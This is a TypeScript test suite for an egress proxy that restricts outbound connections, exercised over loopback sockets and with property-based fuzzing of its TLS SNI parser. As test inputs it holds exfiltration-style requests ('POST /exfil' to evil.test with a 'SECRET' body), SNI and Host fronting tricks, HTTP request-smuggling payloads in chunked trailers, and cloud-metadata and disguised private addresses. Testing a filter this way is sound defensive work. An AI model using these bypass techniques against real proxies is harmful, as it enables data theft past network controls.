/**
 * The egress proxy (src/fence/proxy.ts) with real sockets on loopback, and its first-bytes parser
 * (src/fence/sni.ts) hammered with fast-check. Upstream is a plain TCP stand-in counting what reaches
 * it: a refused tunnel must leave it zero bytes. Names are pinned to 127.0.0.1 or resolved by stubs,
 * so nothing here ever asks real DNS or leaves the machine.
 */
import { afterEach, describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { once } from 'node:events';
import * as net from 'node:net';
import * as tls from 'node:tls';
import type { AllowedHost } from '../../src/config/allowed-hosts.js';
import { refusedAddress } from '../../src/fence/addresses.js';
import {
  startEgressProxy,
  type EgressProxy,
  type EgressProxyOptions
} from '../../src/fence/proxy.js';
import { firstBytes, MAX_FIRST_BYTES } from '../../src/fence/sni.js';

const cleanups: (() => Promise<void> | void)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

/** One connection the stand-in took: what it received, and promises of its first bytes and its end. */
interface Arrival {
  socket: net.Socket;
  bytes(): Buffer;
  firstData: Promise<Buffer>;
  closed: Promise<void>;
}

interface Standin {
  port: number;
  connections(): number;
  /** The next connection, whether it came already or is still to come. */
  next(): Promise<Arrival>;
}

/** `onArrival` may keep a connection half-open; by default an end from the proxy ends it. */
async function standin(
  onArrival: (arrival: Arrival) => void = a => a.socket.once('end', () => a.socket.end())
): Promise<Standin> {
  const arrived: Arrival[] = [];
  const waiting: ((arrival: Arrival) => void)[] = [];
  let count = 0;
  const server = net.createServer({ allowHalfOpen: true }, socket => {
    count++;
    socket.on('error', () => undefined);
    const chunks: Buffer[] = [];
    const arrival: Arrival = {
      socket,
      bytes: () => Buffer.concat(chunks),
      firstData: new Promise(resolve => socket.once('data', resolve)),
      closed: new Promise(resolve => socket.once('close', () => resolve()))
    };
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    onArrival(arrival);
    const waiter = waiting.shift();
    if (waiter) waiter(arrival);
    else arrived.push(arrival);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const sockets = new Set<net.Socket>();
  server.on('connection', socket => sockets.add(socket));
  cleanups.push(async () => {
    for (const socket of sockets) socket.destroy();
    server.close();
    await once(server, 'close');
  });
  return {
    port: (server.address() as net.AddressInfo).port,
    connections: () => count,
    next: () => {
      const first = arrived.shift();
      return first ? Promise.resolve(first) : new Promise(resolve => waiting.push(resolve));
    }
  };
}

/** Every lookup the proxy makes, answered by the test: real DNS is never asked. */
function lookupOf(answers: Record<string, string[]>, asked: string[] = []) {
  return async (name: string) => {
    asked.push(name);
    const addresses = answers[name];
    if (!addresses) throw new Error(`ENOTFOUND ${name}`);
    return addresses.map(address => ({ address, family: net.isIP(address) }));
  };
}

async function proxyWith(options: Partial<EgressProxyOptions> & { hosts: AllowedHost[] }) {
  const proxy = await startEgressProxy({ lookup: lookupOf({}), ...options });
  cleanups.push(() => proxy.close());
  return proxy;
}

function client(proxy: EgressProxy): net.Socket {
  const socket = net.connect(proxy.port, '127.0.0.1');
  socket.on('error', () => undefined);
  cleanups.push(() => void socket.destroy());
  return socket;
}

/** Sends `bytes` and reads the proxy's whole answer, until it closes the connection. */
async function ask(proxy: EgressProxy, bytes: string | Buffer): Promise<string> {
  const socket = client(proxy);
  const chunks: Buffer[] = [];
  socket.on('data', (chunk: Buffer) => chunks.push(chunk));
  socket.write(bytes);
  await once(socket, 'close');
  return Buffer.concat(chunks).toString('latin1');
}

const statusOf = (answer: string): string => answer.split('\r\n')[0] ?? '';

/** A CONNECT (and anything sent with it) answered 200: the client socket, paused, for the tunnel. */
async function tunnel(proxy: EgressProxy, target: string, after: Buffer = Buffer.alloc(0)) {
  const socket = client(proxy);
  socket.write(
    Buffer.concat([Buffer.from(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`), after])
  );
  let seen = '';
  await new Promise<void>((resolve, reject) => {
    const onData = (chunk: Buffer): void => {
      seen += chunk.toString('latin1');
      if (!seen.includes('\r\n\r\n')) return;
      socket.off('data', onData);
      socket.pause();
      resolve();
    };
    socket.on('data', onData);
    socket.once('close', () => reject(new Error(`the proxy closed the tunnel: ${seen}`)));
  });
  expect(statusOf(seen)).toBe('HTTP/1.1 200 Connection Established');
  return socket;
}

/** Starts a TLS handshake in the tunnel; the stand-in is no TLS server, so it never completes. */
function hello(socket: net.Socket, servername: string | undefined): void {
  const secure = tls.connect({
    socket,
    ...(servername === undefined ? { host: '127.0.0.1' } : { servername })
  });
  secure.on('error', () => undefined);
  cleanups.push(() => void secure.destroy());
}

const u8 = (n: number) => Buffer.from([n]);
const u16 = (n: number) => Buffer.from([n >> 8, n & 255]);
const u24 = (n: number) => Buffer.from([n >> 16, (n >> 8) & 255, n & 255]);
const vec16 = (b: Buffer) => Buffer.concat([u16(b.length), b]);

interface HelloShape {
  /** host_name entries of the server_name extension; undefined: no extension at all */
  names?: Buffer[];
  sessionId?: number;
  suites?: number;
  extra?: { type: number; data: Uint8Array }[];
  sniAt?: number;
}

/** A ClientHello in one TLS record, written out here independently of src/fence/sni.ts. */
function clientHello(shape: HelloShape): Buffer {
  const extensions = (shape.extra ?? []).map(e =>
    Buffer.concat([u16(e.type), vec16(Buffer.from(e.data))])
  );
  if (shape.names) {
    const list = Buffer.concat(shape.names.map(n => Buffer.concat([u8(0), vec16(n)])));
    const sni = Buffer.concat([u16(0), vec16(vec16(list))]);
    extensions.splice(Math.min(shape.sniAt ?? 0, extensions.length), 0, sni);
  }
  const session = Buffer.alloc(shape.sessionId ?? 32, 7);
  const body = Buffer.concat([
    u16(0x0303),
    Buffer.alloc(32, 1),
    u8(session.length),
    session,
    vec16(Buffer.alloc(2 * (shape.suites ?? 4), 0x13)),
    u8(1),
    u8(0),
    vec16(Buffer.concat(extensions))
  ]);
  const handshake = Buffer.concat([u8(1), u24(body.length), body]);
  return Buffer.concat([u8(0x16), u16(0x0301), u16(handshake.length), handshake]);
}

const LOCAL = ['127.0.0.1'];

describe('CONNECT with TLS: the SNI must be the name asked for', () => {
  test('a ClientHello naming the host goes through, from its first byte', async () => {
    const up = await standin();
    const proxy = await proxyWith({
      hosts: [{ pattern: 'standin.test', port: up.port }],
      pinned: new Map([['standin.test', LOCAL]])
    });
    // Case and a trailing dot are the same name, in the CONNECT and in the SNI alike.
    hello(await tunnel(proxy, `STANDIN.test.:${up.port}`), 'standin.TEST');
    const arrival = await up.next();
    const first = await arrival.firstData;
    expect(first[0]).toBe(0x16);
    expect(firstBytes(first)).toEqual({ kind: 'tls', serverName: 'standin.test' });
    expect(proxy.tunnels()).toBe(1);
    expect(proxy.refusals()).toEqual([]);
  });

  test('another SNI, or none: the upstream gets zero bytes', async () => {
    const up = await standin();
    const proxy = await proxyWith({
      hosts: [{ pattern: 'standin.test', port: up.port }],
      pinned: new Map([['standin.test', LOCAL]])
    });
    for (const servername of ['other.test', undefined]) {
      hello(await tunnel(proxy, `standin.test:${up.port}`), servername);
      const arrival = await up.next();
      await arrival.closed;
      expect(arrival.bytes().length).toBe(0);
    }
    expect(proxy.tunnels()).toBe(0);
    expect(proxy.refusals()).toEqual(
      expect.arrayContaining([
        { name: 'standin.test', port: up.port, why: 'sni-mismatch', count: 1 },
        { name: 'standin.test', port: up.port, why: 'no-sni', count: 1 }
      ])
    );
  });

  test('a ClientHello sent with the CONNECT is held and checked like any other', async () => {
    const up = await standin();
    const proxy = await proxyWith({
      hosts: [{ pattern: 'standin.test', port: up.port }],
      pinned: new Map([['standin.test', LOCAL]])
    });
    const forged = clientHello({ names: [Buffer.from('evil.test')] });
    await tunnel(proxy, `standin.test:${up.port}`, forged);
    const arrival = await up.next();
    await arrival.closed;
    expect(arrival.bytes().length).toBe(0);
    // Two host_names (a fronting trick: which one would the server use?): refused too.
    const two = clientHello({ names: [Buffer.from('standin.test'), Buffer.from('evil.test')] });
    await tunnel(proxy, `standin.test:${up.port}`, two);
    const second = await up.next();
    await second.closed;
    expect(second.bytes().length).toBe(0);
    expect(proxy.refusals()).toEqual([
      { name: 'standin.test', port: up.port, why: 'sni-mismatch', count: 2 }
    ]);
  });

  test('neither TLS nor HTTP (an SSH banner): refused, zero bytes', async () => {
    const up = await standin();
    const proxy = await proxyWith({
      hosts: [{ pattern: 'standin.test', port: up.port }],
      pinned: new Map([['standin.test', LOCAL]])
    });
    const socket = await tunnel(proxy, `standin.test:${up.port}`);
    socket.write('SSH-2.0-OpenSSH_9.6\r\n');
    const arrival = await up.next();
    await arrival.closed;
    expect(arrival.bytes().length).toBe(0);
    expect(proxy.refusals()).toEqual([
      { name: 'standin.test', port: up.port, why: 'not-tls-or-http', count: 1 }
    ]);
  });

  test('a client that sends nothing within the head timeout: refused, zero bytes', async () => {
    const up = await standin();
    const proxy = await proxyWith({
      hosts: [{ pattern: 'standin.test', port: up.port }],
      pinned: new Map([['standin.test', LOCAL]]),
      headTimeoutMs: 50
    });
    const socket = await tunnel(proxy, `standin.test:${up.port}`);
    await once(socket.resume(), 'close');
    const arrival = await up.next();
    await arrival.closed;
    expect(arrival.bytes().length).toBe(0);
    expect(proxy.refusals()).toEqual([
      { name: 'standin.test', port: up.port, why: 'not-tls-or-http', count: 1 }
    ]);
  });
});

describe('CONNECT with plain HTTP: the Host must be the name asked for', () => {
  test('a matching Host (with or without the port) goes through; another is refused', async () => {
    const up = await standin();
    const proxy = await proxyWith({
      hosts: [{ pattern: 'standin.test', port: up.port }],
      pinned: new Map([['standin.test', LOCAL]])
    });
    for (const host of ['standin.test', `Standin.Test:${up.port}`]) {
      const head = `GET /x HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
      (await tunnel(proxy, `standin.test:${up.port}`)).write(head);
      const arrival = await up.next();
      expect((await arrival.firstData).toString()).toBe(head);
    }
    for (const host of ['evil.test', `standin.test:${up.port + 1}`]) {
      (await tunnel(proxy, `standin.test:${up.port}`)).write(
        `GET /x HTTP/1.1\r\nHost: ${host}\r\n\r\n`
      );
      const arrival = await up.next();
      await arrival.closed;
      expect(arrival.bytes().length).toBe(0);
    }
    // An absolute target naming another host, whatever the Host header says.
    (await tunnel(proxy, `standin.test:${up.port}`)).write(
      `GET http://evil.test/ HTTP/1.1\r\nHost: standin.test\r\n\r\n`
    );
    const fronted = await up.next();
    await fronted.closed;
    expect(fronted.bytes().length).toBe(0);
    expect(proxy.tunnels()).toBe(2);
    expect(proxy.refusals()).toEqual([
      { name: 'standin.test', port: up.port, why: 'host-mismatch', count: 3 }
    ]);
  });
});

describe('absolute-form plain HTTP', () => {
  test('GET http://name:port/ to a listed name: the head as sent, the answer back, half-close kept', async () => {
    // The stand-in answers only once the client has finished sending: an end must reach it, and
    // its answer must still come back on the half-closed connection.
    const up = await standin(arrival => {
      arrival.socket.once('end', () => arrival.socket.end('HTTP/1.1 204 No Content\r\n\r\n'));
    });
    const proxy = await proxyWith({
      hosts: [{ pattern: 'standin.test', port: up.port }],
      pinned: new Map([['standin.test', LOCAL]])
    });
    const head = `GET http://standin.test:${up.port}/path?q=1 HTTP/1.1\r\nHost: standin.test:${up.port}\r\n\r\n`;
    const socket = net.connect({ port: proxy.port, host: '127.0.0.1', allowHalfOpen: true });
    socket.on('error', () => undefined);
    cleanups.push(() => void socket.destroy());
    const chunks: Buffer[] = [];
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.end(head);
    await once(socket, 'end');
    expect(Buffer.concat(chunks).toString()).toBe('HTTP/1.1 204 No Content\r\n\r\n');
    expect((await up.next()).bytes().toString()).toBe(head);
    expect(proxy.tunnels()).toBe(1);
  });

  test('a Host other than the URL’s, or a port not listed: 403, no connection', async () => {
    const up = await standin();
    const proxy = await proxyWith({
      hosts: [{ pattern: 'standin.test', port: up.port }],
      pinned: new Map([['standin.test', LOCAL]])
    });
    const mismatched = await ask(
      proxy,
      `GET http://standin.test:${up.port}/ HTTP/1.1\r\nHost: evil.test\r\n\r\n`
    );
    expect(statusOf(mismatched)).toBe('HTTP/1.1 403 Forbidden');
    const noHost = await ask(proxy, `GET http://standin.test:${up.port}/ HTTP/1.0\r\n\r\n`);
    expect(statusOf(noHost)).toBe('HTTP/1.1 403 Forbidden');
    // No port: 80, which the list does not give.
    const port80 = await ask(
      proxy,
      'GET http://standin.test/ HTTP/1.1\r\nHost: standin.test\r\n\r\n'
    );
    expect(statusOf(port80)).toBe('HTTP/1.1 403 Forbidden');
    expect(up.connections()).toBe(0);
    expect(proxy.refusals()).toEqual(
      expect.arrayContaining([
        { name: 'standin.test', port: up.port, why: 'host-mismatch', count: 2 },
        { name: 'standin.test', port: 80, why: 'not-listed', count: 1 }
      ])
    );
  });

  test('origin-form, https:// absolute-form, a userinfo, garbage: 400', async () => {
    const proxy = await proxyWith({ hosts: [{ pattern: 'standin.test', port: 80 }] });
    for (const request of [
      'GET /x HTTP/1.1\r\nHost: standin.test\r\n\r\n',
      'GET https://standin.test/ HTTP/1.1\r\nHost: standin.test\r\n\r\n',
      'GET http://user@standin.test/ HTTP/1.1\r\nHost: standin.test\r\n\r\n',
      'CONNECT standin.test HTTP/1.1\r\n\r\n',
      '\x16\x03\x01\x00\x05hello'
    ])
      expect(statusOf(await ask(proxy, request))).toBe('HTTP/1.1 400 Bad Request');
    expect(proxy.refusals().every(r => r.why === 'bad-request')).toBe(true);
    expect(proxy.refusals().reduce((n, r) => n + r.count, 0)).toBe(5);
  });
});

describe('names, ports and addresses', () => {
  test('the wrong port: 403 not-listed', async () => {
    const up = await standin();
    const proxy = await proxyWith({
      hosts: [{ pattern: 'standin.test', port: up.port }],
      pinned: new Map([['standin.test', LOCAL]])
    });
    expect(statusOf(await ask(proxy, 'CONNECT standin.test:443 HTTP/1.1\r\n\r\n'))).toBe(
      'HTTP/1.1 403 Forbidden'
    );
    expect(up.connections()).toBe(0);
    expect(proxy.refusals()).toEqual([
      { name: 'standin.test', port: 443, why: 'not-listed', count: 1 }
    ]);
  });

  test('an IP literal, in any spelling: 403 ip-literal, whatever the list says', async () => {
    const up = await standin();
    const proxy = await proxyWith({ hosts: [{ pattern: 'standin.test', port: up.port }] });
    for (const target of [`127.0.0.1:${up.port}`, `[::1]:${up.port}`, `2130706433:${up.port}`])
      expect(statusOf(await ask(proxy, `CONNECT ${target} HTTP/1.1\r\n\r\n`))).toBe(
        'HTTP/1.1 403 Forbidden'
      );
    const get = `GET http://127.0.0.1:${up.port}/ HTTP/1.1\r\nHost: 127.0.0.1:${up.port}\r\n\r\n`;
    expect(statusOf(await ask(proxy, get))).toBe('HTTP/1.1 403 Forbidden');
    expect(up.connections()).toBe(0);
    expect(proxy.refusals()).toEqual(
      expect.arrayContaining([
        { name: '127.0.0.1', port: up.port, why: 'ip-literal', count: 2 },
        { name: '::1', port: up.port, why: 'ip-literal', count: 1 },
        { name: '2130706433', port: up.port, why: 'ip-literal', count: 1 }
      ])
    );
  });

  test('an unlisted name: 403, never looked up, its upstream never reached', async () => {
    const up = await standin();
    const asked: string[] = [];
    const proxy = await proxyWith({
      hosts: [{ pattern: 'standin.test', port: up.port }],
      pinned: new Map([['unlisted.test', LOCAL]]),
      lookup: lookupOf({ 'unlisted.test': LOCAL }, asked)
    });
    const answer = await ask(proxy, `CONNECT unlisted.test:${up.port} HTTP/1.1\r\n\r\n`);
    expect(statusOf(answer)).toBe('HTTP/1.1 403 Forbidden');
    expect(answer).toContain('unlisted.test');
    expect(up.connections()).toBe(0);
    expect(asked).toEqual([]);
    expect(proxy.refusals()).toEqual([
      { name: 'unlisted.test', port: up.port, why: 'not-listed', count: 1 }
    ]);
  });

  test('*.standin.test: any subdomain at any depth, not the apex', async () => {
    const up = await standin();
    const proxy = await proxyWith({
      hosts: [{ pattern: '*.standin.test', port: up.port }],
      pinned: new Map([
        ['a.b.standin.test', LOCAL],
        ['standin.test', LOCAL]
      ])
    });
    hello(await tunnel(proxy, `a.b.standin.test:${up.port}`), 'a.b.standin.test');
    expect((await (await up.next()).firstData)[0]).toBe(0x16);
    const apex = await ask(proxy, `CONNECT standin.test:${up.port} HTTP/1.1\r\n\r\n`);
    expect(statusOf(apex)).toBe('HTTP/1.1 403 Forbidden');
    expect(up.connections()).toBe(1);
    expect(proxy.refusals()).toEqual([
      { name: 'standin.test', port: up.port, why: 'not-listed', count: 1 }
    ]);
  });

  test('a name resolving into a refused range (any of its addresses): 403 private-address', async () => {
    const names: Record<string, string[]> = {
      'metadata.test': ['169.254.169.254'],
      'mapped.test': ['::ffff:10.0.0.1'],
      'mixed.test': ['93.184.216.34', '10.0.0.1'],
      'nat64.test': ['64:ff9b::a9fe:a9fe'],
      'sixtofour.test': ['2002:7f00:1::1'],
      'ula.test': ['2606:4700::1111', 'fd00::1'],
      'loopback.test': ['127.0.0.1']
    };
    const proxy = await proxyWith({
      hosts: Object.keys(names).map(pattern => ({ pattern, port: 443 })),
      lookup: lookupOf(names)
    });
    for (const name of Object.keys(names))
      expect(statusOf(await ask(proxy, `CONNECT ${name}:443 HTTP/1.1\r\n\r\n`))).toBe(
        'HTTP/1.1 403 Forbidden'
      );
    expect(
      proxy
        .refusals()
        .map(r => [r.name, r.why])
        .sort()
    ).toEqual(
      Object.keys(names)
        .map(name => [name, 'private-address'])
        .sort()
    );
  });

  test('the refused ranges, address by address', () => {
    for (const address of [
      '0.1.2.3',
      '10.255.0.1',
      '100.64.0.1',
      '127.0.0.1',
      '169.254.169.254',
      '172.16.0.1',
      '172.31.255.255',
      '192.0.0.8',
      '192.0.2.1',
      '192.168.1.1',
      '198.19.0.1',
      '198.51.100.1',
      '203.0.113.9',
      '224.0.0.1',
      '255.255.255.255',
      '::',
      '::1',
      'fc00::1',
      'fd12::1',
      'fe80::1%eth0',
      'ff02::1',
      '2001:db8::1',
      '::ffff:169.254.169.254',
      '::ffff:a00:1',
      '64:ff9b::10.0.0.1',
      '2002:c0a8:101::1',
      // Found by the red team: IPv4-compatible, site-local, local-use NAT64, Teredo, discard.
      '::7f00:1',
      '::127.0.0.1',
      'fec0::1',
      '64:ff9b:1::a00:1',
      '2001:0:4136:e378::1',
      '100::1'
    ])
      expect([address, refusedAddress(address)]).toEqual([address, true]);
    for (const address of [
      '8.8.8.8',
      '100.128.0.1',
      '172.32.0.1',
      '198.20.0.1',
      '2606:4700::1111',
      '::ffff:8.8.8.8',
      '64:ff9b::808:808',
      '2002:808:808::1'
    ])
      expect([address, refusedAddress(address)]).toEqual([address, false]);
  });

  test('no address: 502 unresolved; nothing listening: 502 upstream-failed', async () => {
    const closed = net.createServer().listen(0, '127.0.0.1');
    await once(closed, 'listening');
    const deadPort = (closed.address() as net.AddressInfo).port;
    closed.close();
    await once(closed, 'close');
    const proxy = await proxyWith({
      hosts: [
        { pattern: 'nowhere.test', port: 443 },
        { pattern: 'empty.test', port: 443 },
        { pattern: 'dead.test', port: deadPort }
      ],
      pinned: new Map([['dead.test', LOCAL]]),
      lookup: lookupOf({ 'empty.test': [] })
    });
    for (const target of ['nowhere.test:443', 'empty.test:443', `dead.test:${deadPort}`])
      expect(statusOf(await ask(proxy, `CONNECT ${target} HTTP/1.1\r\n\r\n`))).toBe(
        'HTTP/1.1 502 Bad Gateway'
      );
    expect(proxy.refusals()).toEqual(
      expect.arrayContaining([
        { name: 'nowhere.test', port: 443, why: 'unresolved', count: 1 },
        { name: 'empty.test', port: 443, why: 'unresolved', count: 1 },
        { name: 'dead.test', port: deadPort, why: 'upstream-failed', count: 1 }
      ])
    );
  });
});

describe('the request head', () => {
  test('over 8 KiB, or not all there in time: 400 bad-request', async () => {
    const proxy = await proxyWith({ hosts: [], headTimeoutMs: 50 });
    const long = `CONNECT standin.test:443 HTTP/1.1\r\nX: ${'a'.repeat(9000)}\r\n\r\n`;
    expect(statusOf(await ask(proxy, long))).toBe('HTTP/1.1 400 Bad Request');
    expect(statusOf(await ask(proxy, 'CONNECT standin.te'))).toBe('HTTP/1.1 400 Bad Request');
    expect(proxy.refusals().map(r => r.why)).toEqual(['bad-request', 'bad-request']);
  });

  test('a client gone mid-head is no refusal, and the proxy serves the next one', async () => {
    const up = await standin();
    const proxy = await proxyWith({
      hosts: [{ pattern: 'standin.test', port: up.port }],
      pinned: new Map([['standin.test', LOCAL]])
    });
    const gone = client(proxy);
    gone.write('CONNECT standin.te');
    gone.resetAndDestroy();
    await once(gone, 'close');
    const half = client(proxy).resume();
    half.end('CONNECT standin.te');
    await once(half, 'close');
    hello(await tunnel(proxy, `standin.test:${up.port}`), 'standin.test');
    await (
      await up.next()
    ).firstData;
    expect(proxy.refusals()).toEqual([]);
  });

  test('a reset in the middle of a tunnel ends its upstream too, and nothing crashes', async () => {
    const up = await standin();
    const proxy = await proxyWith({
      hosts: [{ pattern: 'standin.test', port: up.port }],
      pinned: new Map([['standin.test', LOCAL]])
    });
    const socket = await tunnel(proxy, `standin.test:${up.port}`);
    socket.write('GET / HTTP/1.1\r\nHost: standin.test\r\n\r\n');
    const arrival = await up.next();
    await arrival.firstData;
    socket.resetAndDestroy();
    await arrival.closed;
    arrival.socket.destroy();
    expect(proxy.tunnels()).toBe(1);
  });
});

describe('refusals()', () => {
  test('names are the agent’s words: cut, lower-cased, control characters shown as ?', async () => {
    const proxy = await proxyWith({ hosts: [] });
    await ask(
      proxy,
      Buffer.from('CONNECT Bad\x01Name\x7f\x1b\x9b.test:443 HTTP/1.1\r\n\r\n', 'latin1')
    );
    await ask(proxy, `CONNECT ${'A'.repeat(300)}.test:443 HTTP/1.1\r\n\r\n`);
    const names = proxy.refusals().map(r => r.name);
    expect(names).toContain('bad?name???.test');
    expect(names).toContain('a'.repeat(253));
  });

  test('150 distinct names: 100 rows, then one (others) row for the other 50', async () => {
    const proxy = await proxyWith({ hosts: [] });
    await Promise.all(
      Array.from({ length: 150 }, (_, i) => ask(proxy, `CONNECT n${i}.test:443 HTTP/1.1\r\n\r\n`))
    );
    await ask(proxy, 'CONNECT n0.test:443 HTTP/1.1\r\n\r\n');
    const rows = proxy.refusals();
    expect(rows).toHaveLength(101);
    expect(rows.at(-1)).toEqual({ name: '(others)', port: 0, why: 'not-listed', count: 50 });
    expect(rows.reduce((n, r) => n + r.count, 0)).toBe(151);
  });
});

test('close() ends every tunnel and every half-sent head, and resolves', async () => {
  const up = await standin();
  const proxy = await startEgressProxy({
    hosts: [{ pattern: 'standin.test', port: up.port }],
    pinned: new Map([['standin.test', LOCAL]]),
    lookup: lookupOf({})
  });
  const open = await tunnel(proxy, `standin.test:${up.port}`);
  open.write('GET / HTTP/1.1\r\nHost: standin.test\r\n\r\n');
  const arrival = await up.next();
  await arrival.firstData;
  const halfHead = client(proxy);
  halfHead.write('CONNECT stand');
  await once(halfHead, 'connect');
  // Accepted in order: once a later connection is answered, the proxy holds this one too.
  await ask(proxy, 'GET /x HTTP/1.1\r\n\r\n');
  const closed = [once(open.resume(), 'close'), once(halfHead.resume(), 'close'), arrival.closed];
  await proxy.close();
  await Promise.all(closed);
  expect(proxy.tunnels()).toBe(1);
});

describe('sni.ts, property-based', () => {
  const hostname = fc.domain().filter(d => d.length <= 253);
  const shape = fc.record({
    sessionId: fc.integer({ min: 0, max: 32 }),
    suites: fc.integer({ min: 1, max: 40 }),
    extra: fc.uniqueArray(
      fc.record({
        type: fc.integer({ min: 1, max: 65_535 }),
        data: fc.uint8Array({ maxLength: 60 })
      }),
      { maxLength: 8, selector: e => e.type }
    ),
    sniAt: fc.nat({ max: 8 })
  });

  test('random bytes, TLS-looking or HTTP-looking, never throw', () => {
    const tlsLike = fc
      .tuple(fc.uint8Array({ maxLength: 8 }), fc.uint8Array({ maxLength: 600 }))
      .map(([head, rest]) => Buffer.concat([Buffer.from([0x16, 0x03]), head, rest]));
    const httpLike = fc
      .string({ unit: 'binary', maxLength: 300 })
      .map(s => Buffer.from(`GET ${s}\r\n\r\n`, 'latin1'));
    fc.assert(
      fc.property(fc.oneof(fc.uint8Array({ maxLength: 600 }), tlsLike, httpLike), bytes => {
        const seen = firstBytes(bytes);
        expect(['incomplete', 'tls', 'tls-bad-sni', 'http', 'neither']).toContain(seen.kind);
      }),
      { numRuns: 2000 }
    );
  });

  test('a ClientHello with a valid hostname parses back to it; a damaged one does not throw', () => {
    fc.assert(
      fc.property(hostname, shape, fc.nat(), fc.nat({ max: 254 }), (name, s, at, bits) => {
        const sent = clientHello({ ...s, names: [Buffer.from(name.toUpperCase() + '.')] });
        expect(firstBytes(sent)).toEqual({ kind: 'tls', serverName: name.toLowerCase() });
        const flipped = Buffer.from(sent);
        flipped.writeUInt8(flipped.readUInt8(at % sent.length) ^ (bits + 1), at % sent.length);
        expect(['incomplete', 'tls', 'tls-bad-sni', 'neither']).toContain(firstBytes(flipped).kind);
      })
    );
  });

  test('every truncation of a ClientHello is incomplete or neither, never a name', () => {
    fc.assert(
      fc.property(hostname, shape, (name, s) => {
        const sent = clientHello({ ...s, names: [Buffer.from(name)] });
        for (let cut = 0; cut < sent.length; cut++)
          expect(['incomplete', 'neither']).toContain(firstBytes(sent.subarray(0, cut)).kind);
      }),
      { numRuns: 50 }
    );
  });

  test('no server_name: tls without one; two host_names or a non-DNS name: tls-bad-sni', () => {
    expect(firstBytes(clientHello({}))).toEqual({ kind: 'tls', serverName: undefined });
    for (const names of [
      [Buffer.from('a.test'), Buffer.from('b.test')],
      [Buffer.from('caf\xe9.test', 'latin1')],
      [Buffer.from('a_b.test')],
      [Buffer.from('a.test\x00.evil')],
      [Buffer.alloc(0)]
    ])
      expect(firstBytes(clientHello({ names }))).toEqual({ kind: 'tls-bad-sni' });
  });

  test('bounded: a record over 16 KiB, or a handshake longer than its record, is neither', () => {
    const big = Buffer.concat([
      Buffer.from([0x16, 0x03, 0x01, 0x40, 0x01, 0x01]),
      Buffer.alloc(10)
    ]);
    expect(firstBytes(big).kind).toBe('neither');
    const sent = clientHello({ names: [Buffer.from('a.test')] });
    const spread = Buffer.from(sent);
    spread.writeUInt16BE(sent.length - 5 - 10, 3);
    expect(firstBytes(spread.subarray(0, sent.length - 10)).kind).toBe('neither');
    expect(firstBytes(Buffer.alloc(MAX_FIRST_BYTES + 1, 'a')).kind).toBe('neither');
  });
});

describe('plain HTTP: every request of a connection is checked, not only its first', () => {
  /** Waits until the stand-in's connection has ended, and gives what it received. */
  async function received(up: Standin): Promise<string> {
    const arrival = await up.next();
    await arrival.closed;
    return arrival.bytes().toString('latin1');
  }
  const req = (lines: string[], body = ''): string => `${lines.join('\r\n')}\r\n\r\n${body}`;

  test('was a hole: a keep-alive request naming another Host in a CONNECT tunnel ends it there', async () => {
    const up = await standin();
    const proxy = await proxyWith({
      hosts: [{ pattern: 'standin.test', port: up.port }],
      pinned: new Map([['standin.test', LOCAL]])
    });
    const first = req(['GET / HTTP/1.1', `Host: standin.test:${up.port}`]);
    const second = req(['POST /exfil HTTP/1.1', 'Host: evil.test', 'Content-Length: 6'], 'SECRET');
    const socket = await tunnel(proxy, `standin.test:${up.port}`, Buffer.from(first + second));
    socket.resume();
    expect(await received(up)).toBe(first);
    expect(proxy.refusals()).toEqual([
      { name: 'standin.test', port: up.port, why: 'host-mismatch', count: 1 }
    ]);
  });

  test('was a hole: absolute-form, a second request to another host on the same connection ends it', async () => {
    const up = await standin();
    const proxy = await proxyWith({
      hosts: [{ pattern: 'standin.test', port: up.port }],
      pinned: new Map([['standin.test', LOCAL]])
    });
    const target = `standin.test:${up.port}`;
    const first = req([`GET http://${target}/ HTTP/1.1`, `Host: ${target}`]);
    const second = req(
      ['POST http://evil.test/exfil HTTP/1.1', 'Host: evil.test', 'Content-Length: 6'],
      'SECRET'
    );
    const socket = client(proxy);
    socket.write(first + second);
    expect(await received(up)).toBe(first);
    expect(proxy.refusals()).toEqual([
      { name: 'standin.test', port: up.port, why: 'host-mismatch', count: 1 }
    ]);
  });

  test('bodies are framed: a request inside a body, chunked or by length, is body; the next head is checked', async () => {
    const up = await standin();
    const proxy = await proxyWith({
      hosts: [{ pattern: 'standin.test', port: up.port }],
      pinned: new Map([['standin.test', LOCAL]])
    });
    const host = `Host: standin.test:${up.port}`;
    const inner = req(['GET / HTTP/1.1', 'Host: evil.test']);
    const byLength = req(['POST /a HTTP/1.1', host, `Content-Length: ${inner.length}`], inner);
    const chunked =
      req(['POST /b HTTP/1.1', host, 'Transfer-Encoding: chunked'], '') +
      `${inner.length.toString(16)};ext=1\r\n${inner}\r\n0\r\nX-Trailer: 1\r\n\r\n`;
    const third = req(['GET /c HTTP/1.1', host]);
    const fourth = req(['GET /d HTTP/1.1', 'Host: evil.test']);
    const socket = await tunnel(
      proxy,
      `standin.test:${up.port}`,
      Buffer.from(byLength + chunked + third + fourth)
    );
    socket.resume();
    expect(await received(up)).toBe(byLength + chunked + third);
  });

  test.each([
    // A request with bare LFs, as a lenient server reads it, in a trailer.
    ['a trailer holding a request', '0\r\nX: a\n\nGET /smuggled HTTP/1.1\nHost: evil.test\n\n\r\n'],
    [
      'a request line as a trailer',
      '0\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n'
    ],
    ['a request where a chunk ends', '5\r\nhelloGET http://evil.test/ HTTP/1.1\r\n\r\n'],
    ['a chunk size line with a bare LF', '5;x\nGET http://evil.test/ HTTP/1.1\r\n']
  ])('was a hole: %s is not passed on before it is checked', async (_what, body) => {
    const up = await standin();
    const proxy = await proxyWith({
      hosts: [{ pattern: 'standin.test', port: up.port }],
      pinned: new Map([['standin.test', LOCAL]])
    });
    const head = req([
      'POST / HTTP/1.1',
      `Host: standin.test:${up.port}`,
      'Transfer-Encoding: chunked'
    ]);
    const socket = await tunnel(proxy, `standin.test:${up.port}`, Buffer.from(head + body));
    socket.resume();
    const got = await received(up);
    expect(got).not.toContain('evil');
    expect(got.startsWith(head)).toBe(true);
    expect(proxy.refusals()).toEqual([
      { name: 'standin.test', port: up.port, why: 'bad-request', count: 1 }
